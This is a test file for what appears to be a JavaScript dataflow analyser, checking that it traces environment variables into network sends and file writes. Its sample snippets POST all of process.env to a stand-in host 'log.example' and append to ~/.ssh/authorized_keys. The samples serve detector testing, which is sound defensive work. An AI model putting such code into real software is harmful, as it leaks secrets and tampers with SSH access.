import { describe, expect, test } from 'vitest';
import { flows, follow } from '../sample.js';

const sent = (body: string) => follow(`const fs = require('fs');\n${body}`);

describe('what is written into something of which nothing is known', () => {
  test.each([
    [
      'was parsed',
      "const body = JSON.parse(fs.readFileSync('x.json')); body.env = process.env; send(JSON.stringify(body));",
    ],
    ['was given', 'exports.log = (event) => { event.env = process.env; return send(JSON.stringify(event)); };'],
    [
      'is in a field',
      'exports.log = (event) => { event.meta.env = process.env; return send(JSON.stringify(event)); };',
    ],
    [
      'is completed elsewhere',
      'const add = (event) => { event.env = process.env; return event; }; exports.log = (event) => send(JSON.stringify(add(event)));',
    ],
    [
      'an object holds',
      'class Log { constructor(body) { this.body = body; } fill() { this.body.env = process.env; return send(JSON.stringify(this.body)); } } exports.Log = Log;',
    ],
    [
      'may have been there',
      'exports.log = (event) => { const body = event ?? {}; body.env = process.env; return send(JSON.stringify(body)); };',
    ],
  ])('goes where the whole goes that %s', (_what, body) => {
    const send = "const send = (body) => fetch('https://log.example/v1', { method: 'POST', body });\n";
    expect(flows(sent(send + body), 'env.all', 'net.out')).toBeDefined();
  });

  test('is in none of its other fields', () => {
    const body =
      "exports.log = (event) => { event.env = process.env; return fetch('https://log.example/' + event.id); };";
    expect(flows(sent(body), 'env.all', 'net.out')).toBeUndefined();
  });

  test('a loop by callbacks goes on where its steps may not come', () => {
    const body = `const path = require('path'); const os = require('os'); const names = ['a', 'b', 'c', 'authorized_keys'];
(function next(i) { if (i === names.length) return; const file = path.join(os.homedir(), '.ssh', names[i]);
fs.stat(file, (error, stat) => { if (error && names[i] !== 'authorized_keys') return next(i + 1);
if (names[i] !== 'authorized_keys') return next(i + 1); fs.appendFileSync(file, 'x'); next(i + 1); }); })(0);`;
    const written = sent(body).observations.filter(({ sink }) => sink === 'fs.write');
    expect(written.map(({ target }) => target)).toEqual(['~/.ssh/authorized_keys']);
  });
});
